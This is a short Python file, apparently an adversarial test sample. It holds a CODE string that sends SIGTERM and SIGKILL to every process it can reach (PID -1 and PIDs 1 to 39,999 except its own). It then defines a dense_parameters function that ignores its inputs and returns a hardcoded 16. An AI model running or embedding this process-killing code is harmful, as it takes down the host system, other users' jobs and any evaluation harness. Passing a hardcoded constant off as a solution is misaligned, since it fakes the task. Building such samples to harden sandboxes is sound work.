"""Kills every process it may, and every number it can count to. The batch must go on."""

CODE = r"""
import os
import signal

for number in [-1, *range(1, 40_000)]:
    for kind in (signal.SIGTERM, signal.SIGKILL):
        if number != os.getpid():
            try:
                os.kill(number, kind)
            except OSError:
                pass


def dense_parameters(n_in, n_out):
    return 16
"""
